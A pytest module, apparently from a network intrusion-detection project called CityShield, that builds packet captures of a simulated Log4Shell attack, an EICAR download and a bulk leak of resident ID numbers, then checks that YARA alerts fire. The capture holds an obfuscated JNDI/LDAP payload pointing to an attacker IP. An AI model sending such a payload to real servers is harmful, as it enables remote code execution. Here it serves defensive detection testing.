"""End to end: a capture of attacks on a portal through ``cityshield analyze`` (a real process:
reader, decoder, flows, reassembly, parsers, the YARA detector with our pack), alerts read back
from the EVE output."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from scapy.utils import wrpcap

from sensors.protocols.registry import STREAM_PARSERS
from tests.unit.detectors.conftest import T0, session
from tests.unit.detectors.yara.yarakit import SAMPLES, sample_bytes

EICAR = sample_bytes(SAMPLES / "CityShield_EICAR_Test_File" / "pos_eicar_com.b64")
IDS = ["440304198503121235", "310101199001014566", "11010519491231002X"]


def http_response(body: bytes, ctype: str = "application/octet-stream") -> bytes:
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {ctype}\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def portal_capture(path: Path) -> None:
    client, portal = "203.0.113.66", "198.51.100.10"
    pkts = []
    log4shell = (
        b"GET /login HTTP/1.1\r\nHost: portal.example.gov.cn\r\n"
        b"User-Agent: ${${lower:j}ndi:${lower:l}dap://203.0.113.66:1389/a}\r\n\r\n"
    )
    pkts += session(client, portal, 40001, 80, T0, client=log4shell, server=http_response(b"ok"))
    download = b"GET /files/eicar.com HTTP/1.1\r\nHost: portal.example.gov.cn\r\n\r\n"
    pkts += session(client, portal, 40002, 80, T0 + 5, client=download, server=http_response(EICAR))
    leak = json.dumps([{"name": f"c{i}", "id_no": v} for i, v in enumerate(IDS)]).encode()
    export = b"GET /api/citizens?page=1 HTTP/1.1\r\nHost: portal.example.gov.cn\r\n\r\n"
    pkts += session(
        client, portal, 40003, 80, T0 + 10, client=export,
        server=http_response(leak, "application/json"),
    )  # fmt: skip
    # In session(), the server speaks first; the order of the payloads does not matter to YARA.
    wrpcap(str(path), pkts)


def test_attacks_on_a_portal_become_yara_alerts(tmp_path: Path) -> None:
    capture = tmp_path / "portal.pcap"
    portal_capture(capture)
    eve = tmp_path / "eve.jsonl"
    env = {k: v for k, v in os.environ.items() if not k.startswith("CITYSHIELD_")}
    run = subprocess.run(
        [sys.executable, "-m", "api.cli", "analyze", str(capture), "--no-store", "--json",
         "--eve", str(eve)],
        capture_output=True, text=True, env=env, timeout=300, check=False,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    alerts = [
        doc
        for line in eve.read_text().splitlines()
        if (doc := json.loads(line)).get("event", {}).get("kind") == "alert"
        and doc["rule"]["id"].startswith("yara:")
    ]
    rules = {a["rule"]["name"] for a in alerts}
    assert {
        "CityShield_Exploit_Log4Shell_Obfuscated",
        "CityShield_EICAR_Test_File",
        "CityShield_Citizen_Resident_ID_Bulk",
    } <= rules
    log4 = next(a for a in alerts if a["rule"]["name"] == "CityShield_Exploit_Log4Shell_Obfuscated")
    assert log4["source"]["ip"] == "203.0.113.66"
    assert log4["threat"]["technique"]["id"] == ["T1190", "T1027"]
    assert log4["cityshield"]["alert"]["evidence"]["capture_file"].endswith("portal.pcap")
    leak = next(a for a in alerts if a["rule"]["name"] == "CityShield_Citizen_Resident_ID_Bulk")
    assert leak["source"]["ip"] == "198.51.100.10"  # the portal sent the records
    text = json.dumps(alerts)
    assert not any(v in text for v in IDS), "a full ID number reached an alert"
    summary = json.loads(run.stdout)
    assert summary["detectors"]["yara"]["rules"] == 20
    assert summary["detectors"]["yara"]["errors"] == 0


def test_gzip_and_chunked_eicar_is_found_in_the_decoded_body(tmp_path: Path) -> None:
    if "http" not in STREAM_PARSERS:
        pytest.skip("no HTTP parser yet: bodies are not decoded (issue 3, the lead's part)")
    client, portal = "203.0.113.66", "198.51.100.10"
    packed = gzip.compress(EICAR, mtime=0)
    gz = (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Encoding: gzip\r\n"
        b"Content-Length: %d\r\n\r\n" % len(packed) + packed
    )
    chunked = (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n"
        + b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in (EICAR[:20], EICAR[20:41], EICAR[41:]))
        + b"0\r\n\r\n"
    )
    pkts = session(client, portal, 40010, 80, T0, server=gz,
                   client=b"GET /dl/eicar.com HTTP/1.1\r\nHost: portal\r\n\r\n")  # fmt: skip
    pkts += session(client, portal, 40011, 80, T0 + 5, server=chunked,
                    client=b"GET /dl/eicar2.com HTTP/1.1\r\nHost: portal\r\n\r\n")  # fmt: skip
    capture = tmp_path / "encoded.pcap"
    wrpcap(str(capture), pkts)
    eve = tmp_path / "eve.jsonl"
    env = {k: v for k, v in os.environ.items() if not k.startswith("CITYSHIELD_")}
    run = subprocess.run(
        [sys.executable, "-m", "api.cli", "analyze", str(capture), "--no-store", "--eve", str(eve)],
        capture_output=True, text=True, env=env, timeout=300, check=False,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    alerts = [json.loads(line) for line in eve.read_text().splitlines()]
    eicar_files = [
        a
        for a in alerts
        if a.get("rule", {}).get("name") == "CityShield_EICAR_Test_File"
        and "file" in a["cityshield"]["alert"]["data"]
    ]
    # One payload, two downloads (gzip, chunked): one file alert, aggregated by hash, count 2.
    (alert,) = eicar_files
    ext = alert["cityshield"]["alert"]
    assert ext["data"]["file"]["sha256"] == hashlib.sha256(EICAR).hexdigest()
    assert ext["count"] == 2
